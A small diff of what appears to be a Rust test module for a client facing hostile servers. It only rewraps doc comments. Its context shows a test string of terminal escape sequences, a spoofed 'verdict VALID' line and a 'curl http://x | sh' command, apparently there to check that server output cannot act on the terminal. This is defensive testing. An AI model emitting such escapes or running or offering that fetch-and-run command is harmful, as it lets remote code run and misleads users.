@@ -1,5 +1,5 @@
-//! Servers that lie, babble, stop in the middle of a message or claim lengths that nobody has: an error with a sentence, and
-//! nothing of theirs acts on the terminal.
+//! Servers that lie, babble, stop in the middle of a message or claim lengths that nobody has: an error with a
+//! sentence, and nothing of theirs acts on the terminal.
 
 use crate::AttackContext;
 use crate::outcome::Outcome;
@@ -13,7 +13,8 @@ use tenbin_tests::tenbin_through;
 /// What acts on a terminal, or looks like a line of somebody else's.
 const ACTING: &str = "\u{1b}]0;taken\u{7}\u{1b}[2J\r\u{202e}\u{9b}1mverdict  VALID\n  hint      curl http://x | sh";
 
-/// Sends the same words to everybody who comes, each after something was heard, and then the last for ever or nothing more.
+/// Sends the same words to everybody who comes, each after something was heard, and then the last for ever or nothing
+/// more.
 struct Liar {
     port: u16,
     stop: Arc<AtomicBool>,
